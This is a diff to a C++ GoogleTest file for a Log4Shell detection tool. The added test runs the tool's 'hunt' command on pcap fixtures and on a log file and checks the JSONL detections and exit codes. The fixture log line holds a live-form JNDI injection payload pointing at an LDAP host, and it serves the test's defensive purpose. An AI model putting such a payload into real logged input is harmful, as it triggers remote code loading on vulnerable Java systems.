@@ -5,6 +5,7 @@
 // (made under the build folder) must give an error and keep what came before.
 #include <gtest/gtest.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 
 #include <cstdlib>
 #include <cstring>
@@ -250,6 +251,51 @@ TEST(PcapAttackData, CorruptRecordHeaderGivesAnErrorAndTheRestIsStillRead) {
   for (const NetEvent& e : r.events) searches += e.kind == EventKind::kLdapSearch;
   EXPECT_EQ(searches, 1u) << "the LDAP callback after the damage";
   EXPECT_EQ(r.incidents.size(), 1u);
+}
+
+std::string Shell(const std::string& command, int* exit_code) {
+  std::string out;
+  FILE* p = popen(command.c_str(), "r");
+  if (!p) return out;
+  char buf[4096];
+  for (size_t n; (n = fread(buf, 1, sizeof buf, p)) > 0;) out.append(buf, n);
+  int status = pclose(p);
+  *exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+  return out;
+}
+
+size_t Count(const std::string& text, const std::string& needle) {
+  size_t n = 0;
+  for (size_t pos = 0; (pos = text.find(needle, pos)) != std::string::npos; pos += needle.size()) ++n;
+  return n;
+}
+
+TEST(HuntCli, CapturesAreRecognisedByMagicAndReadFromStdinWithPcap) {
+  fs::path src = kAttackData / "fox-it-log4shell-pcaps/log4shell-rmi-pcaps/rmi-x-api-version-ev1.pcap";
+  if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
+  fs::path dir = kScratch / "cli";
+  fs::remove_all(dir);
+  fs::create_directories(dir);
+  fs::copy_file(src, dir / "traffic.log");  // a capture by content, whatever its name
+  std::ofstream(dir / "app.log") << "2021-12-10 10:00:00 INFO user ${jndi:ldap://198.51.100.1:1389/a}\n";
+  int rc = -1;
+  std::string out = Shell("'" + std::string(L4S_BINARY) + "' hunt --format jsonl '" + dir.string() + "'", &rc);
+  EXPECT_EQ(rc, 1);
+  EXPECT_EQ(Count(out, "\"type\":\"detection\""), 2u) << out;  // one in the log, one in the capture
+  EXPECT_NE(out.find("\"network\":{\"protocol\":\"tcp\",\"src_ip\":\"172.17.0.1\""), std::string::npos) << out;
+  EXPECT_EQ(Count(out, "\"type\":\"incident\""), 1u) << out;
+  EXPECT_EQ(Count(out, "\"kind\":\"rmi_lookup\""), 1u) << out;
+  EXPECT_EQ(Count(out, "\"kind\":\"tcp_connect\""), 1u) << "the incident's evidence: the first contact" << out;
+
+  std::string in = Shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl - < '" + src.string() + "'", &rc);
+  EXPECT_EQ(rc, 1);
+  EXPECT_EQ(Count(in, "\"type\":\"detection\""), 1u) << in;
+  EXPECT_EQ(Count(in, "\"type\":\"incident\""), 1u) << in;
+
+  // --pcap on something that is not a capture: an error, exit 2.
+  std::string bad = Shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl '" + (dir / "app.log").string() + "'", &rc);
+  EXPECT_EQ(rc, 2) << bad;
+  EXPECT_EQ(Count(bad, "\"type\":\"error\""), 1u) << bad;
 }
 
 }  // namespace
